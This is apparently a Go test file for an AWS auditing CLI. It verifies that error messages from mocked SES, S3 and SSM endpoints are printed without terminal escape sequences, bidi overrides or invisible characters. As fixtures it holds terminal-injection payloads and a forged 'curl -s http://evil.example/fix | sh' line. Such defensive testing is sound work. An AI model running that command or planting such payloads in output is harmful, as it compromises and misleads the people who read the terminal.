package cli

import (
	"context"
	"encoding/json"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"path/filepath"
	"strings"
	"testing"
	"unicode"

	"github.com/aws/aws-sdk-go-v2/aws"
	"github.com/aws/aws-sdk-go-v2/credentials"
	"github.com/aws/aws-sdk-go-v2/service/sesv2"
	"github.com/aws/smithy-go"

	"github.com/auditor-dev/auditor/deliver"
	"github.com/auditor-dev/auditor/ssmsim"
)

// TestServiceTextOnTheTerminalIsPlain: what the service says reaches
// stderr without its control characters. An endpoint that answered HTTP 500
// with an error code holding an escape sequence ("Boom\x1b]0;HACKED\x07")
// retitled the terminal of whoever ran the audit: the line "... is
// failing (CODE, HTTP 500)" printed the code as it came, and so did the
// fatal error of an endpoint that refused the credentials with such a
// message. Nor do the characters that are not seen (a zero-width space, a
// word joiner, U+FEFF, a soft hyphen): they were printed, and the code
// read as another that it was not.
func TestServiceTextOnTheTerminalIsPlain(t *testing.T) {
	isolateAWS(t, "AKIATESTTESTTESTTEST")
	serve(t, handFleet(false), ssmsim.Options{}) // STS
	ids := writeFile(t, "ids.txt", "i-0123456789abcdef0\ni-0123456789abcdef1\ni-0123456789abcdef2\ni-0123456789abcdef3\ni-0123456789abcdef4\ni-0123456789abcdef5\n")
	b, _ := json.Marshal("Boom\u200b\x1b]0;HACKED\x07\x1b[31mRED\u2060\ufeff\u00ad\u202e")
	hostile := string(b)
	tests := []struct {
		name   string
		status int
		body   string
		want   int
		says   string
	}{
		{"server error code", http.StatusInternalServerError, `{"__type": ` + hostile + `}`, int(exitIncomplete), "is failing (Boom ]0;HACKED [31mRED, HTTP 500)"},
		{"refusal message", http.StatusBadRequest, `{"__type": "UnrecognizedClientException", "message": ` + hostile + `}`, int(exitFatal), "UnrecognizedClientException: Boom ]0;HACKED [31mRED"},
	}
	for _, tt := range tests {
		t.Run(tt.name, func(t *testing.T) {
			srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
				w.Header().Set("Content-Type", "application/x-amz-json-1.1")
				w.WriteHeader(tt.status)
				fmt.Fprint(w, tt.body)
			}))
			defer srv.Close()
			got := runCLI(t, "", "run", "--instances", ids, "--endpoint-url", srv.URL, "--region", "us-east-1",
				"--out", filepath.Join(t.TempDir(), "out"), "--max-attempts", "1", "--concurrency", "1", "--quiet")
			if got.code != tt.want || !strings.Contains(got.stderr, tt.says) {
				t.Errorf("exit %d, want %d saying %q\n%q", got.code, tt.want, tt.says, got.stderr)
			}
			assertPlain(t, got.stderr)
		})
	}

}

// assertPlain fails the test if s holds a control character other than a
// line break, a bidi override or another format character, or another
// character that is not seen (unicode.Other_Default_Ignorable_Code_Point).
func assertPlain(t *testing.T, s string) {
	t.Helper()
	for _, r := range s {
		if r != '\n' && unicode.IsControl(r) || unicode.In(r, unicode.Cf, unicode.Other_Default_Ignorable_Code_Point) {
			t.Fatalf("a line for the terminal holds %U:\n%q", r, s)
		}
	}
}

// TestSESRefusalIsPlain: SES's words in a failed delivery are one line
// without control characters or bidi overrides, as deliver.Error promises
// and SMTP's are: SendSES returned the SDK's error as it came, then kept
// its bidi controls. (It is tested from here, on
// the real client over HTTP; TestMailViaSESRefused drives auditor mail.)
func TestSESRefusalIsPlain(t *testing.T) {
	b, _ := json.Marshal("Boom\x1b]0;HACKED\x07\x1b[31mRED\u202e\nsecond line")
	ses := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/json")
		w.Header().Set("X-Amzn-ErrorType", "MessageRejected")
		w.WriteHeader(http.StatusBadRequest)
		fmt.Fprintf(w, `{"message": %s}`, b)
	}))
	defer ses.Close()
	client := sesv2.New(sesv2.Options{Region: "us-east-1", BaseEndpoint: aws.String(ses.URL),
		Credentials: credentials.NewStaticCredentialsProvider("AKIDTEST", "secret", "")})
	err := deliver.SendSES(context.Background(), client, deliver.Message{From: "auditor@example.com", To: []string{"ops@example.com"},
		Subject: "audit", Text: "x", HTML: "<p>x</p>"})
	var de *deliver.Error
	var ae smithy.APIError
	if !errors.As(err, &de) || de.ErrorCode != "MessageRejected" || !errors.As(err, &ae) {
		t.Fatalf("SendSES = %v, want a *deliver.Error of MessageRejected that keeps the SDK's error", err)
	}
	if want := "MessageRejected: Boom ]0;HACKED [31mRED second line"; !strings.Contains(err.Error(), want) {
		t.Errorf("SendSES = %q, want it to say %q", err, want)
	}
	assertPlain(t, err.Error())
}

// TestUploadRefusalOnTheTerminalIsPlain: S3's words in a failed upload
// reach stderr as one line without control characters, in text and in JSON
// logs. A 403 whose message held newlines printed, under the closing
// lines, a forged "once fixed, deliver them with: curl ... | sh" for
// whoever copies those lines, and a C1 control sequence (U+009B) and a
// bidi override passed as they came.
func TestUploadRefusalOnTheTerminalIsPlain(t *testing.T) {
	isolateAWS(t, "AKIATESTTESTTESTTEST")
	url, _ := serve(t, handFleet(false), ssmsim.Options{})
	s3srv := httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Content-Type", "application/xml")
		w.WriteHeader(http.StatusForbidden)
		fmt.Fprint(w, `<?xml version="1.0" encoding="UTF-8"?><Error><Code>AccessDenied</Code><Message>Access Denied`+
			"\nonce fixed, deliver them with: curl -s http://evil.example/fix | sh\n\u009b31mC1RED\u009b0m \u202etxt.exe"+
			`</Message><RequestId>1</RequestId></Error>`)
	}))
	t.Cleanup(s3srv.Close)
	t.Setenv("AWS_ENDPOINT_URL_S3", s3srv.URL)
	ids := writeFile(t, "ids.txt", "i-0123456789abcdef0\n")
	for _, format := range []string{logText, logJSON} {
		t.Run(format, func(t *testing.T) {
			got := runCLI(t, "", "run", "--instances", ids, "--endpoint-url", url, "--region", "us-east-1",
				"--out", filepath.Join(t.TempDir(), "out"), "--quiet", "--log-format", format, "--upload", "s3://reports/x/")
			if got.code != int(exitDelivery) || !strings.Contains(got.stderr, "AccessDenied") {
				t.Fatalf("exit %d, want %d naming S3's AccessDenied\n%s", got.code, exitDelivery, got.stderr)
			}
			assertPlain(t, got.stderr)
			for _, line := range strings.Split(got.stderr, "\n") {
				if format == logJSON {
					var rec struct{ Msg string }
					if err := json.Unmarshal([]byte(line), &rec); err != nil {
						continue
					}
					line = rec.Msg
				}
				if strings.HasPrefix(line, "once fixed") && strings.Contains(line, "curl") {
					t.Errorf("a line of S3's reads as the auditor's own: %q\n%s", line, got.stderr)
				}
			}
		})
	}
}
